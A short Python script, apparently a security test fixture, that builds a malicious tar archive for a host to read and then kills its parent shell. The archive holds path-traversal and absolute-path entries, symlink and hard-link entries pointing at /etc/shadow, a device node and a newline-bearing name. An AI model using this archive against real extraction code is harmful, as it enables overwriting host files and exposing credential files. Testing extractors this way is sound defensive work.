# Writes the archive that the host will read itself, then kills the shell that would have written an honest one.
import io, os, signal, tarfile
def member(name, content=b"evil", **fields):
    info = tarfile.TarInfo(name)
    info.size = len(content)
    for key, value in fields.items():
        setattr(info, key, value)
    return info, io.BytesIO(content)
with tarfile.open("/out.tar", "w", format=tarfile.PAX_FORMAT) as tar:
    tar.addfile(*member("good.txt", b"good"))
    tar.addfile(*member("../../evil"))
    tar.addfile(*member("/etc/evil"))
    tar.addfile(*member("a/../../evil"))
    tar.addfile(*member("new\nline"))
    tar.addfile(*member("link", b"", type=tarfile.SYMTYPE, linkname="/etc/shadow"))
    tar.addfile(*member("hard", b"", type=tarfile.LNKTYPE, linkname="/etc/shadow"))
    tar.addfile(*member("device", b"", type=tarfile.CHRTYPE, devmajor=1, devminor=3))
    tar.addfile(*member("last.txt", b"last"))
os.kill(os.getppid(), signal.SIGKILL)
